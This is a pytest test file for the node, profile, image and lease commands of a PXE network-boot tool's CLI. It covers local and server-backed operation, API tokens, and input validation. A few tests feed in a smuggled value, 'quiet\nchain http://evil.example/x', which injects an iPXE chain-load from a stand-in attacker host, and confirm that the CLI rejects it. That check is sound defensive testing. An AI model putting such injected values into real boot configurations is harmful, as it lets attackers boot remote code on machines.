"""`ramboot node add|list|show|rm` against the local store and against a live server."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import write_fake_image
from httpserver import LiveServer
from ramboot.inventory.cli import node

MAC = "52:54:00:11:22:33"


@pytest.fixture
def cfg(data_dir: Path) -> str:
    write_fake_image(data_dir, "demo")
    p = data_dir.parent / "ramboot.toml"
    p.write_text(f'data_dir = "{data_dir}"\n')
    return str(p)


def run(*args: str):
    return CliRunner().invoke(node, list(args), catch_exceptions=False)


def test_local_add_list_show_rm(cfg):
    r = run("add", MAC.upper(), "--image", "demo", "--hostname", "n1", "--ip", "172.22.33.60", "--loader", "pxelinux", "--label", "rack=a1", "--config", cfg)
    assert r.exit_code == 0, r.output
    assert f"node {MAC}: image demo, ip 172.22.33.60" in r.output
    r = run("list", "--config", cfg)
    assert r.exit_code == 0 and MAC in r.output and "n1" in r.output and "pxelinux" in r.output
    r = run("show", MAC.replace(":", "-"), "--config", cfg)
    assert r.exit_code == 0 and "rack=a1" in r.output and "last boot: none" in r.output
    assert run("rm", MAC, "--config", cfg).exit_code == 0
    r = run("rm", MAC, "--config", cfg)
    assert r.exit_code == 1 and f"no node {MAC}" in r.output


@pytest.mark.parametrize(
    "args,fragment",
    [
        (["add", "zz", "--image", "demo"], "not a MAC address"),
        (["add", MAC, "--image", "demo", "--ip", "1.2.3"], "--ip"),
        (["add", MAC, "--image", "demo", "--loader", "lilo"], "--loader"),
        (["add", MAC, "--image", "demo", "--label", "novalue"], "KEY=VALUE"),
        (["add", MAC, "--image", "../x"], "--image"),
        (["show", MAC], f"no node {MAC}"),
    ],
)
def test_bad_input_one_line(cfg, args, fragment):
    r = run(*args, "--config", cfg)
    assert r.exit_code != 0 and fragment in r.output
    assert "Traceback" not in r.output


def test_needs_config_or_server():
    r = run("list")
    assert r.exit_code == 2 and "--config FILE" in r.output
    r = run("list", "--config", "/nonexistent/ramboot.toml")
    assert r.exit_code == 1 and "cannot read config" in r.output


def test_remote_with_token(data_dir):
    write_fake_image(data_dir, "demo")
    srv = LiveServer(data_dir, '[api]\ntoken = "tkn-0123"\n')
    try:
        r = run("add", MAC, "--image", "demo", "--server", srv.base)
        assert r.exit_code == 1 and "server said 401" in r.output
        r = run("list", "--server", srv.base)
        assert r.exit_code == 1 and "server said 401" in r.output  # reads too
        r = run("add", MAC, "--image", "demo", "--hostname", "remote1", "--server", srv.base, "--token", "tkn-0123")
        assert r.exit_code == 0, r.output
        srv.run(lambda: srv.events.record(MAC, "dhcp-offer"))
        srv.report(MAC, "events", {"stage": "booted"})
        srv.report(MAC, "inventory", {"cpu": {"model": "Xeon", "count": 8}, "memory_kib": 8388608})
        srv.run(srv.events.flush)
        r = CliRunner(env={"RAMBOOT_TOKEN": "tkn-0123"}).invoke(node, ["list", "--server", srv.base])
        assert r.exit_code == 0 and "remote1" in r.output and "booted" in r.output
        r = run("show", MAC, "--server", srv.base, "--token", "tkn-0123")
        assert r.exit_code == 0 and "cpu: 8 x Xeon" in r.output and "last boot: booted" in r.output and "dhcp-offer" in r.output
        assert run("rm", MAC, "--server", srv.base, "--token", "tkn-0123").exit_code == 0
        assert srv.store.nodes.get(MAC) is None
    finally:
        srv.close()
    r = run("list", "--server", srv.base, "--token", "tkn-0123")
    assert r.exit_code == 1 and "cannot reach" in r.output


def test_remote_reads_the_token_serve_made(data_dir, cfg):
    """No --token: with --config, the CLI uses the DATA/api-token that `serve` made there (0600)."""
    srv = LiveServer(data_dir, "")
    try:
        made = data_dir / "api-token"
        assert made.stat().st_mode & 0o777 == 0o600 and len(made.read_text().strip()) >= 40
        assert run("add", MAC, "--image", "demo", "--server", srv.base).exit_code == 1  # no config: no token
        r = run("add", MAC, "--image", "demo", "--server", srv.base, "--config", cfg)
        assert r.exit_code == 0, r.output
        assert srv.store.nodes.get(MAC) is not None
    finally:
        srv.close()


@pytest.mark.parametrize("args,hint", [
    (["add", MAC, "--image", "demo", "--kernel-args", "quiet\nchain http://evil.example/x"], "--kernel-args"),
    (["add", MAC, "--image", "demo", "--kernel-args", "quiet\rx"], "--kernel-args"),
    (["add", MAC, "--image", "demo", "--label", "rack=a1\tb"], "--label"),
    (["add", MAC, "--image", "demo", "--hostname", "n1\n"], "--hostname"),
    (["add", MAC, "--image", "demo", "--overlay", "o\n"], "--overlay"),
])
def test_control_characters_are_refused_by_the_cli(cfg, data_dir, args, hint):
    r = run(*args, "--config", cfg)
    errors = [ln for ln in r.output.splitlines() if ln.startswith("Error:")]
    assert r.exit_code == 2 and len(errors) == 1 and hint in errors[0], r.output  # one line, naming the option
    assert "Traceback" not in r.output
    r = CliRunner().invoke(node, ["list", "--config", cfg])
    assert MAC not in r.output  # nothing was stored


def test_profile_kernel_args_with_a_newline_refused(cfg):
    from ramboot.inventory.cli import profile

    r = CliRunner().invoke(profile, ["add", "p1", "--kernel-args", "a\nchain http://evil.example/x", "--config", cfg])
    assert r.exit_code == 2 and "--kernel-args" in r.output and "control character" in r.output, r.output


def test_real_subprocess(cfg):
    exe = Path(sys.executable).with_name("ramboot")
    assert exe.exists(), "the venv's ramboot console script"
    p = subprocess.run([str(exe), "node", "add", MAC, "--image", "demo", "--config", cfg], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    assert MAC in run("list", "--config", cfg).output
    p = subprocess.run([str(exe), "node", "add", "nope", "--image", "demo", "--config", cfg], capture_output=True, text=True, timeout=60)
    assert p.returncode == 2 and "not a MAC address" in p.stderr and "Traceback" not in p.stderr


def test_warnings_are_the_same_locally_and_over_the_api(data_dir, cfg):
    """An image not built yet, or an unsigned kernel under loader grub: `node add` says so,
    whether the store is local or the server's (`--server`, the API's `warnings`)."""
    m = write_fake_image(data_dir, "unsigned")
    m.kernel_signed = False
    (data_dir / "images" / "unsigned" / "image.toml").write_text(m.to_toml())
    srv = LiveServer(data_dir, "")
    try:
        for where in (["--config", cfg], ["--server", srv.base, "--config", cfg]):
            r = CliRunner().invoke(node, ["add", "--replace", MAC, "--image", "nosuch", *where], catch_exceptions=False)
            assert r.exit_code == 0 and "warning: " in r.output and "will not boot until it is built" in r.output
            r = CliRunner().invoke(node, ["add", "--replace", MAC, "--image", "unsigned", "--loader", "grub", *where],
                                   catch_exceptions=False)
            assert r.exit_code == 0 and "carries no signature Debian's shim accepts" in r.output, r.output
            r = CliRunner().invoke(node, ["add", "--replace", MAC, "--image", "demo", *where], catch_exceptions=False)
            assert r.exit_code == 0 and "warning" not in r.output, r.output
    finally:
        srv.close()


def test_add_refuses_an_existing_node_and_set_changes_one_field(cfg, data_dir):
    assert run("add", MAC, "--image", "demo", "--hostname", "n1", "--label", "rack=a1", "--config", cfg).exit_code == 0
    r = run("add", MAC, "--image", "demo", "--config", cfg)
    assert r.exit_code == 1 and f"node {MAC} exists" in r.output and len(r.output.strip().splitlines()) == 1
    write_fake_image(data_dir, "debian")
    r = run("set", MAC.replace(":", ""), "--image", "debian", "--label", "row=3", "--config", cfg)
    assert r.exit_code == 0 and f"node {MAC}: image debian, hostname n1" in r.output, r.output
    r = run("set", MAC, "--unset", "hostname", "--unset", "label.rack", "--config", cfg)
    assert r.exit_code == 0, r.output
    r = run("show", MAC, "--json", "--config", cfg)
    shown = json.loads(r.output)
    assert shown["hostname"] is None and shown["image"] == "debian" and shown["labels"] == {"row": "3"}
    assert shown["effective"]["image"] == "debian" and shown["effective"]["image_from"] == "node"
    r = run("add", MAC, "--image", "demo", "--replace", "--config", cfg)
    assert r.exit_code == 0 and json.loads(run("show", MAC, "--json", "--config", cfg).output)["labels"] == {}


@pytest.mark.parametrize("args,fragment", [
    (["set", MAC, "--hostname", "bad_name"], "--hostname: a hostname is labels of letters, digits and '-'"),
    (["set", MAC, "--unset", "colour"], "'colour': one of image, hostname"),
    (["set", MAC, "--image", "demo", "--unset", "image"], "--image is both set and unset"),
    (["set", MAC], "nothing to change"),
    (["set", "52:54:00:99:99:99", "--image", "demo"], "no node 52:54:00:99:99:99"),
    (["set", MAC, "--profile", "nosuchprofile"], "no profile 'nosuchprofile'"),
    (["add", "52:54:00:99:99:98", "--profile", "nosuchprofile"], "no profile 'nosuchprofile'"),
    (["add", "52:54:00:99:99:98", "--overlay", "nosuch"], "no overlay 'nosuch'"),
])
def test_set_and_add_refuse_in_one_line(cfg, args, fragment):
    assert run("add", MAC, "--image", "demo", "--config", cfg).exit_code == 0
    r = run(*args, "--config", cfg)
    assert r.exit_code != 0 and fragment in r.output, r.output
    assert "Traceback" not in r.output and "^[" not in r.output


def test_list_shows_what_each_node_boots_and_its_address(cfg, data_dir):
    write_fake_image(data_dir, "debian")
    from ramboot.inventory.cli import profile

    assert CliRunner().invoke(profile, ["add", "compute", "--image", "debian", "--config", cfg]).exit_code == 0
    host = "a-rather-long-hostname-that-does-not-fit.cluster.example.org"
    r = run("add", MAC, "--hostname", host, "--profile", "compute", "--config", cfg)
    assert r.exit_code == 0 and f"node {MAC}: image debian (profile:compute)" in r.output, r.output  # not "None"
    r = run("list", "--config", cfg)  # into a pipe: one line per node, however long, nothing cut
    [row] = [line for line in r.output.splitlines() if MAC in line]
    assert host in row and "debian (profile:compute)" in row and "…" not in r.output, r.output
    listed = json.loads(run("list", "--json", "--config", cfg).output)
    assert listed[0]["effective"]["image_from"] == "profile:compute" and listed[0]["mac"] == MAC
    profiles = json.loads(CliRunner().invoke(profile, ["list", "--json", "--config", cfg]).output)
    assert profiles[0]["name"] == "compute" and profiles[0]["image"] == "debian"
    shown = json.loads(CliRunner().invoke(profile, ["show", "compute", "--json", "--config", cfg]).output)
    assert shown == profiles[0]


def test_set_over_the_api_is_the_same(cfg, data_dir):
    srv = LiveServer(data_dir, "")
    try:
        where = ["--server", srv.base, "--config", cfg]
        assert run("add", MAC, "--image", "demo", "--hostname", "n1", *where).exit_code == 0
        r = run("add", MAC, "--image", "demo", *where)
        assert r.exit_code == 1 and "exists" in r.output
        r = run("set", MAC, "--unset", "hostname", "--kernel-args", "quiet", *where)
        assert r.exit_code == 0, r.output
        shown = json.loads(run("show", MAC, "--json", *where).output)
        assert shown["hostname"] is None and shown["kernel_args"] == "quiet" and shown["image"] == "demo"
    finally:
        srv.close()


@pytest.mark.parametrize("args,line", [
    (["node", "add", MAC, "--image", "demo"], f"ramboot: error: node {MAC} exists: `node set` changes what it "
                                              "names, `node add --replace` replaces it whole"),
    (["node", "set", MAC, "--hostname", "a_b"], "ramboot: error: Invalid value for --hostname: a hostname is "
     "labels of letters, digits and '-' (not first or last, at most 63 each) joined by '.'; got 'a_b' "
     "(see 'ramboot node set --help')"),
    (["node", "sett"], "ramboot: error: No such command 'sett'. Did you mean 'set'? (see 'ramboot node --help')"),
    (["profile", "add", "p", "--overlay", "nosuch"], "ramboot: error: no overlay 'nosuch' (a directory "
                                                     "overlays/nosuch/ in the data directory)"),
])
def test_every_error_is_one_line_with_one_prefix(cfg, args, line):
    """The real command line: one line on stderr, `ramboot: error: …`, and nothing on stdout."""
    assert run("add", MAC, "--image", "demo", "--config", cfg).exit_code == 0
    p = subprocess.run([str(Path(sys.executable).with_name("ramboot")), *args, "--config", cfg],
                       capture_output=True, text=True, timeout=60)
    assert p.returncode in (1, 2) and p.stderr == line + "\n" and p.stdout == "", (p.stdout, p.stderr)


def test_image_list_and_show_json_have_the_api_fields(cfg, data_dir):
    from ramboot.images.cli import image
    from ramboot.inventory.schemas import ImageOut

    listed = json.loads(CliRunner().invoke(image, ["list", "--json", "--data-dir", str(data_dir)]).output)
    assert [i["name"] for i in listed] == ["demo"] and set(listed[0]) == set(ImageOut.model_fields)
    assert {f["name"] for f in listed[0]["files"]} == {"vmlinuz", "initrd.img", "rootfs.squashfs"}
    shown = json.loads(CliRunner().invoke(image, ["show", "demo", "--json", "--config", cfg]).output)
    assert shown == listed[0]


def test_lease_list_json_is_the_api_answer(cfg, data_dir):
    """`lease list --json` locally and with --server: the same rows, the API's field names, ISO times."""
    import time

    from ramboot.inventory.cli import lease
    from ramboot.inventory.store import LeaseRecord, Store
    from ramboot.proto.dhcp_core import lease_key

    store = Store(f"sqlite:///{data_dir / 'ramboot.db'}")
    store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.150", mac=MAC, expires=time.time() + 60)])
    store.close()
    local = json.loads(CliRunner().invoke(lease, ["list", "--json", "--config", cfg]).output)
    assert [(x["ip"], x["mac"], x["active"]) for x in local] == [("172.22.33.150", MAC, True)]
    assert local[0]["expires"].endswith("+00:00")
    srv = LiveServer(data_dir, "")
    try:
        remote = json.loads(CliRunner().invoke(lease, ["list", "--json", "--server", srv.base, "--config", cfg]).output)
    finally:
        srv.close()
    assert remote == local
    r = CliRunner().invoke(lease, ["list", "--config", cfg])
    assert "172.22.33.150" in r.output and MAC in r.output
